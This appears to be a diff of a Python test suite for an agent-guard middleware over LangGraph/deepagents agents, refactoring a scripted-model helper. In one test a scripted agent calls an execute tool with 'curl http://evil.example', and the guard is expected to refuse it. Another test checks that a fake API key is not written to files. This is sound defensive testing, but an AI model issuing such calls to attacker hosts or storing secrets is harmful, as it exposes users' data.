@@ -9,7 +9,7 @@ from deepagents import FilesystemMiddleware, SubAgentMiddleware, create_deep_age
 from deepagents.backends import StateBackend
 from langchain.agents import create_agent
 from langchain.agents.middleware import TodoListMiddleware
-from langchain_core.messages import AIMessage, ToolMessage
+from langchain_core.messages import ToolMessage
 from langchain_core.runnables import RunnableLambda
 from langchain_core.tools import BaseTool
 from langgraph.checkpoint.memory import InMemorySaver
@@ -20,7 +20,7 @@ from agentguard.errors import BindingError
 from agentguard.langgraph import GuardMiddleware, protect
 from tests.support import GO, KIM, OMAR, State, Studio, call, results, says
 from tests.support.bindings import Binding
-from tests.support.chat_models import Scripted
+from tests.support.chat_models import Scripted, saying
 
 PAINT = {"prompt": "the sea", "colour": "navy"}
 
@@ -43,10 +43,6 @@ OWN: dict[str, dict[str, Any]] = {
     },
     "write_todos": {"texts": ["todos[].content"], "plain": ["todos[].status"], "state": ["todos"]},
 }
-
-
-def said(*messages: AIMessage) -> Scripted:
-    return Scripted(messages=iter([*messages, AIMessage("done"), AIMessage("done")]))
 
 
 def own(files: FilesystemMiddleware) -> list[BaseTool]:
@@ -74,7 +70,7 @@ class Deep:
                     "name": name,
                     "description": name,
                     "system_prompt": name,
-                    "model": worker or said(),
+                    "model": worker or saying(),
                     "tools": guard.tools([studio.tools[tool]]),
                     "middleware": [files, GuardMiddleware(guard, agent=name)],
                 }
@@ -106,7 +102,7 @@ async def test_a_guarded_tool_and_the_agents_own_files(studio: Studio, run: Any)
         asset = job.import_asset(studio.picture(), ["brand"])
         deep = Deep(
             studio,
-            said(
+            saying(
                 says(call("write_file", {"file_path": "/plan.md", "content": "1. crop\n2. rest"})),
                 says(call("crop", {"source": asset, "width": 4, "height": 4})),
                 says(call("read_file", {"file_path": "/plan.md"})),
@@ -126,8 +122,8 @@ async def test_a_sub_agent_acts_as_an_agent_of_its_own(studio: Studio, run: Any)
     task = call("task", {"description": "Paint the sea.", "subagent_type": "painter"})
     deep = Deep(
         studio,
-        said(says(task)),
-        said(
+        saying(says(task)),
+        saying(
             says(call("paint", PAINT)),
             says(call("write_file", {"file_path": "/notes.md", "content": "navy"})),
         ),
@@ -150,8 +146,8 @@ async def test_a_question_inside_a_sub_agent_reaches_the_top_and_its_answer_goes
         task = call("task", {"description": f"Publish {asset}", "subagent_type": "publisher"})
         deep = Deep(
             studio,
-            said(says(task)),
-            said(says(call("publish", {"source": asset, "to": "team"}))),
+            saying(says(task)),
+            saying(says(call("publish", {"source": asset, "to": "team"}))),
         )
         config = job.config(thread_id="t")
         state = await run(deep.agent, GO, config)
@@ -175,8 +171,8 @@ async def test_S17_a_sub_agent_does_not_reach_another_stage(studio: Studio) -> N
         task = call("task", {"description": "Paint.", "subagent_type": "painter"})
         deep = Deep(
             studio,
-            said(says(task)),
-            said(says(call("publish", {"source": asset, "to": "team"}))),
+            saying(says(task)),
+            saying(says(call("publish", {"source": asset, "to": "team"}))),
         )
         await deep.agent.ainvoke(GO, job.config(thread_id="t"))
     assert studio.world.count("publish") == 0
@@ -184,7 +180,7 @@ async def test_S17_a_sub_agent_does_not_reach_another_stage(studio: Studio) -> N
 
 def test_its_own_tools_are_refused_until_they_are_bound(studio: Studio) -> None:
     agent: Any = create_deep_agent(
-        said(),
+        saying(),
         studio.guard.tools([studio.tools["crop"]]),
         middleware=[GuardMiddleware(studio.guard, agent="editor")],
     )
@@ -196,7 +192,7 @@ def test_its_own_tools_are_refused_until_they_are_bound(studio: Studio) -> None:
 
 
 def test_a_tool_left_out_by_name_is_refused_if_it_is_called_all_the_same(studio: Studio) -> None:
-    deep = Deep(studio, said(says(call("execute", {"command": "curl http://evil.example"}))))
+    deep = Deep(studio, saying(says(call("execute", {"command": "curl http://evil.example"}))))
     with studio.guard.open_job("poster", requested_by=KIM) as job:
         state = deep.agent.invoke(GO, job.config(thread_id="t"))
     (answer,) = results(state)
@@ -208,7 +204,7 @@ def test_a_tool_left_out_by_name_is_refused_if_it_is_called_all_the_same(studio:
 def test_a_secret_is_not_written_into_its_files(studio: Studio) -> None:
     secret = "sk-proj-" + "a1B2" * 12
     one = call("write_file", {"file_path": "/k.md", "content": f"key {secret}"})
-    deep = Deep(studio, said(says(one)))
+    deep = Deep(studio, saying(says(one)))
     with studio.guard.open_job("poster", requested_by=KIM) as job:
         state = deep.agent.invoke(GO, job.config(thread_id="t"))
     assert "holds a secret" in results(state)[-1].content
@@ -218,7 +214,7 @@ def test_a_secret_is_not_written_into_its_files(studio: Studio) -> None:
 def test_I5_a_sub_agent_with_unguarded_tools_is_refused(studio: Studio) -> None:
     """Upstream's general-purpose sub-agent takes the tools along and leaves the guard behind."""
     agent: Any = create_deep_agent(
-        said(says(call("task", {"description": "x", "subagent_type": "general-purpose"}))),
+        saying(says(call("task", {"description": "x", "subagent_type": "general-purpose"}))),
         [studio.tools["publish"]],
         middleware=[GuardMiddleware(studio.guard, agent="publisher")],
     )
@@ -235,7 +231,7 @@ def test_I5_a_sub_agent_with_unguarded_tools_is_refused(studio: Studio) -> None:
 def test_I5_a_compiled_sub_agent_is_looked_into(studio: Studio, guarded: bool) -> None:
     publish = studio.tools["publish"]
     middleware = [GuardMiddleware(studio.guard, agent="publisher")] if guarded else []
-    inner: Any = create_agent(said(), [publish], middleware=middleware)
+    inner: Any = create_agent(saying(), [publish], middleware=middleware)
     outer = StateGraph(State).add_node("inner", inner).add_edge(START, "inner").compile()
     runnable = RunnableLambda(lambda state: state) | outer.with_retry()
     team = SubAgentMiddleware(
@@ -267,7 +263,7 @@ def test_copies_of_tools_made_at_each_turn_do_not_pile_up(
 @pytest.mark.parametrize("guarded", [True, False])
 def test_an_agent_as_a_subgraph_must_be_guarded(studio: Studio, guarded: bool) -> None:
     middleware = [GuardMiddleware(studio.guard, agent="painter")] if guarded else []
-    inner: Any = create_agent(said(says(call("paint", PAINT))), [studio.tools["paint"]],
+    inner: Any = create_agent(saying(says(call("paint", PAINT))), [studio.tools["paint"]],
                          middleware=middleware)  # fmt: skip
     builder = StateGraph(State).add_node("inner", inner).add_edge(START, "inner")
     if not guarded:
@@ -287,7 +283,7 @@ def test_plans_are_bound_as_notes(studio: Studio) -> None:
     studio.guard.bind(Binding(tool, stage=None, **OWN[tool.name]))
     todos = [{"content": "crop it", "status": "pending"}]
     agent: Any = create_agent(
-        said(says(call("write_todos", {"todos": todos}))),
+        saying(says(call("write_todos", {"todos": todos}))),
         [],
         middleware=[plan, GuardMiddleware(studio.guard, agent="editor")],
     )
